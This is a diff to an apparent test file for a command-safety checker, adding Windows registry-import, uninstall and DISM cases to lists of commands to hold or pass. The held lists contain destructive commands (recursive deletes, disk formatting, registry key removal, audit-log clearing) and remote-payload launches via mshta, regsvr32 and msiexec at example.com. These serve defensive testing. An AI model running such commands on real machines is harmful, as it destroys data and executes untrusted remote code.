@@ -66,14 +66,14 @@ const disk = windowsDisk({
   repositories: [project],
   files: {
     [`${project}\\clean.ps1`]: { text: 'param($Folder = "D:\\archive")\nRemove-Item -Recurse -Force $Folder' }, [`${project}\\build.bat`]: { text: '@echo off\r\nrd /s /q "%~dp0..\\other"\r\ndel /q D:\\archive\\*.log' }, [`${project}\\safe.ps1`]: { text: 'npm ci\nnpm test' }, [`${project}\\safe.cmd`]: { text: '@echo off\r\nnpm test\r\nrd /s /q node_modules' },
-    [`${project}\\huge.bat`]: { size: 1e7 }, [`${project}\\scripts\\outer.cmd`]: { text: 'call ..\\build.bat' }, [`${project}\\scripts\\outer.ps1`]: { text: '& $PSScriptRoot\\..\\clean.ps1\n& .\\..\\clean.ps1' }, [`${project}\\src\\a.ts`]: 'clean', [`${project}\\notes.md`]: 'untracked', [`${project}\\node_modules\\x\\a.js`]: 'ignored', [`${profile}\\other\\z.txt`]: 'clean', 'D:\\archive\\a.log': 'clean', 'D:\\archive\\b.txt': 'clean',
+    [`${project}\\huge.bat`]: { size: 1e7 }, [`${project}\\gone.reg`]: { text: 'Windows Registry Editor Version 5.00\r\n\r\n[-HKEY_CURRENT_USER\\Software\\Shop]\r\n' }, [`${project}\\set.reg`]: { text: 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Shop]\r\n"a"="b"\r\n' }, [`${project}\\scripts\\outer.cmd`]: { text: 'call ..\\build.bat' }, [`${project}\\scripts\\outer.ps1`]: { text: '& $PSScriptRoot\\..\\clean.ps1\n& .\\..\\clean.ps1' }, [`${project}\\src\\a.ts`]: 'clean', [`${project}\\notes.md`]: 'untracked', [`${project}\\node_modules\\x\\a.js`]: 'ignored', [`${profile}\\other\\z.txt`]: 'clean', 'D:\\archive\\a.log': 'clean', 'D:\\archive\\b.txt': 'clean',
   },
 });
 
 for (const shell of ['bash', 'powershell', 'cmd'] as const) {
   table('scripts of the project', shell, {
-    held: ['powershell -File clean.ps1', 'powershell -ExecutionPolicy Bypass -File .\\clean.ps1', 'pwsh clean.ps1', 'build.bat', '.\\build.bat', `${project}\\build.bat`, 'cmd /c build.bat', 'cmd /c call build.bat', 'powershell -c ".\\clean.ps1"', '.\\huge.bat', 'cd scripts && .\\outer.cmd'],
-    passes: ['powershell -File safe.ps1', 'safe.cmd', '.\\safe.cmd', 'cmd /c safe.cmd', '.\\missing.bat', 'npm.cmd test'],
+    held: ['powershell -File clean.ps1', 'powershell -ExecutionPolicy Bypass -File .\\clean.ps1', 'pwsh clean.ps1', 'build.bat', '.\\build.bat', `${project}\\build.bat`, 'cmd /c build.bat', 'cmd /c call build.bat', 'powershell -c ".\\clean.ps1"', '.\\huge.bat', 'cd scripts && .\\outer.cmd', 'reg import gone.reg', 'regedit /s gone.reg'],
+    passes: ['powershell -File safe.ps1', 'safe.cmd', '.\\safe.cmd', 'cmd /c safe.cmd', '.\\missing.bat', 'npm.cmd test', 'reg import set.reg', 'regedit /s set.reg'],
   }, disk);
 }
 
@@ -97,9 +97,9 @@ for (const shell of ['bash', 'powershell', 'cmd'] as const) {
   table('Windows programs', shell, {
     held: [
       'sc stop Spooler', 'sc config Spooler start= disabled', 'net stop Spooler', 'net user bob /active:no', 'net user bob /delete', 'auditpol /clear /y', 'reagentc /disable', 'takeown /f C:/ /r /d y', 'icacls C:/Windows /grant Everyone:F /t', 'format /q d:', 'diskpart /s wipe.txt', 'diskshadow /s shadows.txt', 'schtasks /create /tn x /sc daily /tr "cmd /c rd /s /q D:/archive"',
-      'mshta https://example.com/a.hta', 'regsvr32 /s /u /i:https://example.com/a.sct scrobj.dll', 'msiexec /i https://example.com/a.msi /qn', 'rundll32 javascript:alert(1)',
+      'mshta https://example.com/a.hta', 'regsvr32 /s /u /i:https://example.com/a.sct scrobj.dll', 'msiexec /i https://example.com/a.msi /qn', 'msiexec /x {0A1B} /qn', 'wusa /uninstall /kb:500', 'dism /online /disable-feature /featurename:x', 'dism /unmount-image /mountdir:D:/m /discard', 'net use Z: /delete', 'rundll32 javascript:alert(1)',
     ],
-    passes: ['sc query Spooler', 'sc config Spooler start= auto', 'net start Spooler', 'net user bob', 'auditpol /list /user', 'reagentc /info', 'takeown /f D:/archive/a.txt', 'icacls out /grant dev:F /t', 'icacls C:/Windows', 'format d: /?', 'diskpart /s list.txt list disk', 'schtasks /create /tn x /sc daily /tr "npm run backup"', 'regsvr32 /s plugin.dll', 'msiexec /i setup.msi', 'rundll32 shell32.dll,Control_RunDLL'],
+    passes: ['sc query Spooler', 'sc config Spooler start= auto', 'net start Spooler', 'net user bob', 'auditpol /list /user', 'reagentc /info', 'takeown /f D:/archive/a.txt', 'icacls out /grant dev:F /t', 'icacls C:/Windows', 'format d: /?', 'diskpart /s list.txt list disk', 'schtasks /create /tn x /sc daily /tr "npm run backup"', 'regsvr32 /s plugin.dll', 'msiexec /i setup.msi', 'dism /online /get-features', 'dism /unmount-image /mountdir:D:/m /commit', 'net use', 'reg import missing.reg', 'rundll32 shell32.dll,Control_RunDLL'],
   });
 }
 
